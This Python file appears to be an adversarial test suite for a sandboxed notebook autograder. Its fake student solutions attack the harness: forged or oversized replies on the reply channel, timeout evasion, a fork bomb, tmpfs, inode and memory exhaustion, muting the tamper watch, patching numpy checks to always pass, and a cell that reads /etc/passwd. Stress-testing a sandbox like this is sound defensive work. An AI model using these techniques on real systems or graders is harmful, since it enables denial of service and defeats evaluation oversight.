"""Classes 4, 5, 6 and 8 as student code: the reply channel, the time budget,
the per-jail caps and the tamper watch. Each entry is {solution id: source}
on top of the reference cells (see `samples.build`).

`{T}` in a source is replaced by the per-call timeout minus a margin, so a
sleeper stays just under it, and `{TAG}` by a marker the student writes to
/proc/self/comm so the harness can see, from outside, when its code runs.
"""

# Every cell that defines a function is kept correct unless the attack says
# otherwise; the attack goes in the cell named.

# -- class 4: the reply channel ---------------------------------------------

# Find the worker's private reply descriptor and the id of the request being
# answered, by walking up the frames into the worker's main loop.
FIND_WIRE = '''
import sys, os, struct, json

def _wire():
    f = sys._getframe()
    while f is not None:
        loc = f.f_locals
        if "msg_id" in loc and "wfd" in loc:
            return loc["msg_id"], loc["wfd"]
        f = f.f_back
    return None, None

_HDR = struct.Struct(">4sQII")
'''

MALFORMED = '''
def _malformed():
    mid, wfd = _wire()
    if wfd is not None:
        data = json.dumps({"results": 7, "value": {"x": [None]}, "output_bytes": 0,
                           "suspicious": {"a": 1}}).encode()
        data += b" " * (-len(data) % 16)
        try:
            os.write(wfd, _HDR.pack(b"AGw2", mid, len(data), 0) + data)
            os._exit(0)
        except OSError:
            pass
'''

BACKWARD = '''
def _backward(dout, y):
    return y * (dout - np.sum(dout * y, axis=-1, keepdims=True))
'''

REPLY = {
    # A header that announces a 60 MB reply, then the 60 MB, on every fd.
    "reply-60mb-every-fd": {"softmax_backward": BACKWARD + '''
import os, struct

def softmax_backward(dout, y):
    head = struct.pack(">4sQII", b"AGw2", 0, 60 << 20, 0)
    for fd in range(3, 40):
        try:
            os.write(fd, head)
            chunk = b" " * (1 << 20)
            for _ in range(60):
                os.write(fd, chunk)
        except OSError:
            pass
    return _backward(dout, y)
'''},
    # The same with the right request id, so the header itself is valid.
    "reply-60mb-right-id": {"softmax_backward": BACKWARD + FIND_WIRE + '''
def softmax_backward(dout, y):
    mid, wfd = _wire()
    if wfd is not None:
        body = b'{"results": [' + b" " * (60 << 20) + b"]}"
        try:
            os.write(wfd, _HDR.pack(b"AGw2", mid, len(body), 0))
            view = memoryview(body)
            while view:
                view = view[os.write(wfd, view[:1 << 20]):]
        except OSError:
            pass
    return _backward(dout, y)
'''},
    # A reply inside the size caps whose arrays all alias one 4 MB blob:
    # decoding it with a copy per array would need ~27 GB.
    "reply-alias-amplify": {"softmax_backward": BACKWARD + FIND_WIRE + '''
def softmax_backward(dout, y):
    mid, wfd = _wire()
    if wfd is not None:
        ref = {"__nd__": ["<f8", [524288], 0]}
        msg = {"results": [{"ok": True, "value": ref, "modified": [], "warnings": []}],
               "output_bytes": 0, "suspicious": [], "pad": [ref] * 6800}
        data = json.dumps(msg).encode()
        data += b" " * (-len(data) % 16)
        blob = bytes(4 * 1024 * 1024)
        try:
            frame = memoryview(_HDR.pack(b"AGw2", mid, len(data), len(blob)) + data + blob)
            while frame:
                frame = frame[os.write(wfd, frame):]
        except OSError:
            pass
    return _backward(dout, y)
'''},
    # A well-framed reply whose JSON is nested 120 000 deep.
    "reply-deep-json": {"softmax_backward": BACKWARD + FIND_WIRE + '''
def softmax_backward(dout, y):
    mid, wfd = _wire()
    if wfd is not None:
        data = b"[" * 120000 + b"]" * 120000
        try:
            frame = memoryview(_HDR.pack(b"AGw2", mid, len(data), 0) + data)
            while frame:
                frame = frame[os.write(wfd, frame):]
        except OSError:
            pass
    return _backward(dout, y)
'''},
    # A correct-looking reply for this request, then the real one after it:
    # every later reply would be shifted by one if the grader kept reading.
    "reply-shift-by-one": {"softmax_backward": BACKWARD + FIND_WIRE + '''
def softmax_backward(dout, y):
    mid, wfd = _wire()
    if wfd is not None:
        msg = {"results": [{"ok": True, "value": 0.0, "modified": [], "warnings": []}],
               "output_bytes": 0, "suspicious": []}
        data = json.dumps(msg).encode()
        data += b" " * (-len(data) % 16)
        try:
            os.write(wfd, _HDR.pack(b"AGw2", mid, len(data), 0) + data)
        except OSError:
            pass
    return _backward(dout, y)
'''},
    # A well-framed reply with the right id whose message has the wrong
    # shape: the grader's own code must not trip on it (an "internal grader
    # error" is retried from scratch and never cached).
    "reply-malformed-shape": {"softmax_backward": BACKWARD + FIND_WIRE + MALFORMED + '''
def softmax_backward(dout, y):
    _malformed()
    return _backward(dout, y)
'''},
    # Garbage, non-blocking, on every descriptor there is.
    "reply-garbage-all-fds": {"softmax_backward": BACKWARD + '''
import os

def softmax_backward(dout, y):
    for fd in range(0, 256):
        try:
            os.set_blocking(fd, False)
            os.write(fd, b"\\xde\\xad\\xbe\\xef" * 16384)
        except OSError:
            pass
    return _backward(dout, y)
'''},
    # /dev/null over every descriptor: requests and replies go nowhere.
    "reply-dup2-devnull": {"softmax_backward": BACKWARD + '''
import os

def softmax_backward(dout, y):
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(0, 64):
        if fd != null:
            try:
                os.dup2(null, fd)
            except OSError:
                pass
    return _backward(dout, y)
'''},
    # Close every descriptor but the standard ones, then answer.
    "reply-close-fds": {"softmax_backward": BACKWARD + '''
import os

def softmax_backward(dout, y):
    os.closerange(3, 1024)
    return _backward(dout, y)
'''},
}

# -- class 5: the per-student wall-clock budget -------------------------------

# Written first in the softmax cell: name the process so the harness can see
# from outside when this student's code starts and stops running.
# (os.open without O_CREAT: the jail refuses any open that could make a file.)
TAG = '''
try:
    import os as _os
    _fd = _os.open("/proc/self/comm", _os.O_WRONLY)
    _os.write(_fd, b"{TAG}")
    _os.close(_fd)
except OSError:
    pass
'''


def _slow_all(wrapper):
    """Every function of the notebook kept correct, each call made slow by `wrapper`."""
    return {"softmax": TAG + wrapper + '''
@_slow
def softmax(x):
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
''', "softmax_backward": '''
@_slow
def softmax_backward(dout, y):
    return y * (dout - np.sum(dout * y, axis=-1, keepdims=True))
''', "softmax_loss_naive": '''
@_slow
def softmax_loss_naive(W, X, y, reg):
    N = X.shape[1]
    S = W @ X
    S = S - S.max(axis=0)
    P = np.exp(S)
    P /= P.sum(axis=0)
    loss = -np.log(P[y, np.arange(N)]).mean() + 0.5 * reg * np.sum(W * W)
    P[y, np.arange(N)] -= 1
    return float(loss), P @ X.T / N + reg * W
''', "softmax_loss_vectorized": '''
@_slow
def softmax_loss_vectorized(W, X, y, reg):
    N = X.shape[1]
    S = W @ X
    S = S - S.max(axis=0)
    L = np.log(np.exp(S).sum(axis=0))
    loss = np.mean(L - S[y, np.arange(N)]) + 0.5 * reg * np.sum(W * W)
    P = np.exp(S - L)
    P[y, np.arange(N)] -= 1
    return float(loss), P @ X.T / N + reg * W
'''}


SLEEP = '''
import time
def _slow(f):
    def g(*a, **k):
        time.sleep({T})
        return f(*a, **k)
    return g
'''

BUSY = '''
import time
def _slow(f):
    def g(*a, **k):
        end = time.perf_counter() + {T}
        while time.perf_counter() < end:
            pass
        return f(*a, **k)
    return g
'''

SELECT_NO_SIGNALS = '''
import select, signal
for _s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU, signal.SIGHUP,
           signal.SIGUSR1, signal.SIGPIPE):
    try:
        signal.signal(_s, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def _slow(f):
    def g(*a, **k):
        select.select([], [], [], {T})
        return f(*a, **k)
    return g
'''

BUDGET = {
    "budget-sleep-each-call": _slow_all(SLEEP),
    "budget-busy-each-call": _slow_all(BUSY),
    "budget-select-no-signals": _slow_all(SELECT_NO_SIGNALS),
    # Slow at every call, and once a malformed reply: if that is taken for
    # the grader's own failure, the student is graded again, budget anew.
    "budget-retry-doubles": dict(_slow_all(SLEEP), softmax_backward=FIND_WIRE + MALFORMED + '''
@_slow
def softmax_backward(dout, y):
    _malformed()
    return y * (dout - np.sum(dout * y, axis=-1, keepdims=True))
'''),
    # Stop itself at every call: only SIGKILL (or a SIGCONT) moves it.
    "budget-sigstop-self": {"softmax": TAG + '''
import os, signal
def softmax(x):
    os.kill(os.getpid(), signal.SIGSTOP)
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
''', "softmax_backward": '''
import os, signal
def softmax_backward(dout, y):
    os.kill(os.getpid(), signal.SIGSTOP)
    return y * (dout - np.sum(dout * y, axis=-1, keepdims=True))
''', "softmax_loss_vectorized": '''
import os, signal
def softmax_loss_vectorized(W, X, y, reg):
    os.kill(os.getpid(), signal.SIGSTOP)
    N = X.shape[1]
    S = W @ X
    S = S - S.max(axis=0)
    L = np.log(np.exp(S).sum(axis=0))
    loss = np.mean(L - S[y, np.arange(N)]) + 0.5 * reg * np.sum(W * W)
    P = np.exp(S - L)
    P[y, np.arange(N)] -= 1
    return float(loss), P @ X.T / N + reg * W
'''},
    # Every cell sleeps while it is executed (each worker start runs them all).
    "budget-sleep-in-cells": {k: (TAG if k == "softmax" else "") + "import time\ntime.sleep({T})\n" + v
                              for k, v in {
        "softmax": "def softmax(x):\n    e = np.exp(x - np.max(x, axis=-1, keepdims=True))\n"
                   "    return e / np.sum(e, axis=-1, keepdims=True)\n",
        "softmax_backward": "def softmax_backward(dout, y):\n"
                            "    return y * (dout - np.sum(dout * y, axis=-1, keepdims=True))\n",
        "softmax_loss_naive": "def softmax_loss_naive(W, X, y, reg):\n"
                              "    return softmax_loss_vectorized(W, X, y, reg)\n",
    }.items()},
}

# -- class 6: caps per jail ---------------------------------------------------

CE = '''
def _ce(y, t):
    y = np.atleast_2d(y)
    t = np.asarray(t)
    if t.size == y.size:
        t = t.reshape(y.shape).argmax(axis=1)
    t = t.reshape(-1)
    return float(-np.sum(np.log(y[np.arange(y.shape[0]), t] + 1e-7)) / y.shape[0])
'''

CAPS = {
    # A shell fork bomb, and posix_spawn, from the cell.
    "caps-fork-bomb-shell": {"cross_entropy_error": CE + '''
import os, subprocess
for _ in range(20):
    try:
        subprocess.Popen(["/bin/sh", "-c", "b(){ b|b& }; b"])
    except Exception:
        break
try:
    os.posix_spawn("/bin/sleep", ["sleep", "600"], dict(os.environ))
except Exception:
    pass
def cross_entropy_error(y, t):
    return _ce(y, t)
'''},
    # 64 threads that hold on (each would count against a per-user limit).
    "caps-thread-hog": {"cross_entropy_error": CE + '''
import threading, time
_started = 0
for _ in range(64):
    try:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        _started += 1
    except Exception:
        break
def cross_entropy_error(y, t):
    return _ce(y, t)
'''},
    # Real processes through multiprocessing (fork context), each holding on.
    "caps-process-pool": {"cross_entropy_error": CE + '''
import multiprocessing, time
_procs = []
for _ in range(16):
    try:
        _p = multiprocessing.get_context("fork").Process(target=time.sleep, args=(600,), daemon=True)
        _p.start()
        _procs.append(_p)
    except Exception:
        break
def cross_entropy_error(y, t):
    return _ce(y, t)
'''},
    # Fill /tmp and /dev/shm (tmpfs: host RAM) and keep the files.
    "caps-fill-tmpfs": {"cross_entropy_error": CE + '''
import os
_chunk = b"\\x01" * (16 << 20)
for _d in ("/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
    for _i in range(128):
        try:
            with open(f"{_d}/fill-{_i}", "wb") as _f:
                _f.write(_chunk)
        except OSError:
            break
def cross_entropy_error(y, t):
    return _ce(y, t)
'''},
    # Empty files in the sized /tmp: a tmpfs size bounds bytes, not inodes,
    # and each inode is kernel memory. Created for {T} s at every call.
    "caps-tmp-inodes": {"cross_entropy_error": CE + '''
import os, time
_n = [0]
def _files():
    # At most 1.5 M files (~1.5 GB of kernel memory unbounded): enough to
    # show the hole, not enough to hurt the machine running the suite.
    end = time.monotonic() + {T}
    while time.monotonic() < end and _n[0] < 1_500_000:
        for _ in range(1000):
            try:
                os.close(os.open(f"/tmp/i{_n[0]}", os.O_CREAT | os.O_WRONLY, 0o600))
            except OSError:
                return
            _n[0] += 1
def cross_entropy_error(y, t):
    _files()
    return _ce(y, t)
'''},
    # memfd files: RAM that no address-space limit sees. Held while the call
    # sleeps just under the timeout, so the harness sees host memory held.
    "caps-memfd-hold": {"cross_entropy_error": CE + '''
import os, time
_fds = []
def _grab():
    chunk = b"\\x02" * (16 << 20)
    for _ in range(12):
        try:
            fd = os.memfd_create("h7")
        except Exception:
            return
        _fds.append(fd)
        try:
            for _ in range(8):
                os.write(fd, chunk)
        except OSError:
            pass
_grab()
def cross_entropy_error(y, t):
    time.sleep({T})
    return _ce(y, t)
'''},
    # Anonymous mmap of 8 GB, every page touched.
    "caps-mmap-touch": {"cross_entropy_error": CE + '''
import mmap
def cross_entropy_error(y, t):
    m = mmap.mmap(-1, 8 << 30)
    for off in range(0, 8 << 30, 4096):
        m[off] = 1
    return _ce(y, t)
'''},
    # One huge numpy allocation, then a bytearray loop.
    "caps-huge-alloc": {"cross_entropy_error": CE + '''
def cross_entropy_error(y, t):
    big = np.ones(1 << 33)
    hold = [bytearray(1 << 28) for _ in range(64)]
    return _ce(y, t) + float(big[0]) * 0 + len(hold) * 0
'''},
}

# -- class 8: switching the tamper watch off ----------------------------------

PATCH_AND_IMPORT = '''
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
try:
    import ctypes
except Exception:
    pass
try:
    os.kill(os.getpid(), 0)
except Exception:
    pass
'''

TAMPER = {
    # Find the watch with gc and mute it, then patch numpy and import ctypes.
    "tamper-gc-mute": {"softmax": '''
import gc, os
for _o in gc.get_objects():
    if type(_o).__name__ == "Watch":
        _o._note = lambda *a, **k: None
        _o.notes_fd = None
        _o.seen.clear()
        _o.secrets = ()
''' + PATCH_AND_IMPORT + '''
def softmax(x):
    return np.zeros_like(x)
'''},
    # Through the worker's module (__main__): empty its watch lists and move
    # the patch baseline to after the patches.
    "tamper-main-module": {"softmax": '''
import os, sys
_w = sys.modules["__main__"]
for _n in ("WATCHED_EVENTS", "FORBIDDEN_IMPORTS"):
    try:
        getattr(_w, _n).clear()
    except Exception:
        pass
''' + PATCH_AND_IMPORT + '''
for _o in __import__("gc").get_objects():
    if type(_o).__name__ == "Watch":
        try:
            _o.baseline = _w._snapshot()
        except Exception:
            pass
def softmax(x):
    return np.zeros_like(x)
'''},
    # No frame, no gc: the worker is the __main__ module; patch its Watch
    # class so every instance's notes and patch check do nothing.
    "tamper-class-patch": {"softmax": '''
import os, sys
_W = getattr(sys.modules["__main__"], "Watch", None)
if _W is not None:
    _W._note = lambda self, *a, **k: None
    _W.check_patches = lambda self, *a, **k: None
''' + PATCH_AND_IMPORT + '''
def softmax(x):
    return np.zeros_like(x)
'''},
    # Through the frames: replace the harness's watch by a silent stand-in,
    # at every call, and silence the real one.
    "tamper-frames-swap": {"softmax": '''
import os, sys

class _Quiet:
    active = False
    seen = []
    secrets = ()
    def check_patches(self):
        pass

def _swap():
    f = sys._getframe()
    while f is not None:
        h = f.f_locals.get("self")
        if h is not None and hasattr(h, "watch") and hasattr(h, "ns"):
            real = h.watch
            if real is not None and not isinstance(real, _Quiet):
                real.notes_fd = None
                real._note = lambda *a, **k: None
                real.seen.clear()
            h.watch = _Quiet()
        f = f.f_back

def softmax(x):
    _swap()
''' + "\n".join("    " + ln for ln in PATCH_AND_IMPORT.strip().splitlines()) + '''
    return np.zeros_like(x)
'''},
}

# -- class 2, in code: IPython transforms in the grader ------------------------

SOFTMAX_DEF = '''
def softmax(x):
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
'''

MAGIC = {
    # 900 000 lines of code in one solution cell (~15 MB as notebook JSON,
    # under the size cap): parsing and compiling it is work the grader must bound.
    "file-huge-solution-cell": {"softmax": "_z=1\n" * 900_000 + SOFTMAX_DEF},
    # An expression nested 200 000 deep: a parser's recursion (C stack) in
    # whatever reads the cell, in the grader or the jail.
    "file-deep-expression": {"softmax": "_x = " + "-" * 200_000 + "1\n" + SOFTMAX_DEF},
    # Thousands of shell and magic lines around a correct definition.
    "file-magic-lines": {"softmax": "\n".join(
        [f"!echo {i} && cat /etc/passwd" if i % 2 else f"%timeit -n1 {i}" for i in range(6000)]
        + ["def softmax(x):",
           "    e = np.exp(x - np.max(x, axis=-1, keepdims=True))",
           "    return e / np.sum(e, axis=-1, keepdims=True)"])},
}
